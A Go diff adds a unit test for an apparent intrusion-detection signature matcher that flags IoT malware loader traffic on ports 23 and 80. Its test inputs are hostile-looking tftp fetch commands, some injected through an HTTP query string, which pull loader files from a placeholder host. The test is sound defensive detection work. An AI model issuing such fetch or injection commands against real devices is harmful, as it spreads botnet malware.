@@ -142,3 +142,64 @@ func FuzzFetchScanner(f *testing.F) {
 		}
 	})
 }
+
+// TestCommandRules: a command rule matches the fetch of a name its
+// signature lists (strong), an any-name rule a fetch no listing rule for
+// the port claims (weak); a name outside a fetch command matches nothing;
+// one packet fetching two loaders' files is evidence for both.
+func TestCommandRules(t *testing.T) {
+	s, err := Parse("cmd.yaml", []byte(`serial: 1
+signatures:
+  - id: loader-a
+    family: A
+    tftp_files: ["aa.*", "*a.sh"]
+    payloads:
+      - {proto: tcp, port: 23, command: tftp}
+      - {proto: tcp, port: 80, command: tftp}
+  - id: loader-b
+    family: B
+    tftp_files: [b.sh]
+    payloads:
+      - {proto: tcp, port: 23, command: tftp}
+  - id: listed-elsewhere
+    family: C
+    tftp_files: [c.exe]
+  - id: generic
+    family: Generic
+    payloads:
+      - {proto: tcp, port: 23, command: tftp, evidence: weak}
+      - {proto: tcp, port: 80, command: tftp, evidence: weak}
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		port uint16
+		in   string
+		want string // signature:evidence:fetched ...
+	}{
+		{23, "tftp -g -r aa.mips h", "loader-a:strong:aa.mips"},
+		{23, "tftp -g -r /x/AA.MIPS h", "loader-a:strong:/x/AA.MIPS"},
+		{23, "tftp h -c get prefixa.sh", "loader-a:strong:prefixa.sh"},
+		{23, "tftp -g -r b.sh h; tftp -g -r aa.x h", "loader-b:strong:b.sh loader-a:strong:aa.x"},
+		{23, "tftp -g -r b.sh h; tftp -g -r b.sh h", "loader-b:strong:b.sh"},
+		{23, "tftp -g -r x.sh h", "generic:weak:x.sh"},
+		{23, "tftp -g -r c.exe h", "generic:weak:c.exe"}, // listed, but no rule for it here
+		{23, "tftp -g -r x.sh h; tftp -g -r aa.1 h", "generic:weak:x.sh loader-a:strong:aa.1"},
+		{80, "GET /?c=tftp+-g+-r+b.sh+h HTTP/1.1", "generic:weak:b.sh"}, // loader-b does not look at 80
+		{80, "GET /?c=tftp+-g+-r+a.sh+h HTTP/1.1", "loader-a:strong:a.sh"},
+		{23, "tftp -g -r " + strings.Repeat("a", 300) + " h", "generic:weak:" + strings.Repeat("a", maxFetchName)},
+		{23, "cat aa.mips b.sh; echo tftp", ""},
+		{80, "GET /aa.mips HTTP/1.1", ""},
+		{2323, "tftp -g -r aa.mips h", ""},
+	} {
+		var got []string
+		s.MatchPayloads(TCP, c.port, []byte(c.in), func(m PayloadMatch) bool {
+			got = append(got, m.Signature.ID+":"+m.Payload.Evidence.String()+":"+string(m.Fetched))
+			return true
+		})
+		if g := strings.Join(got, " "); g != c.want {
+			t.Errorf("%d %q:\n got %s\nwant %s", c.port, c.in, g, c.want)
+		}
+	}
+}
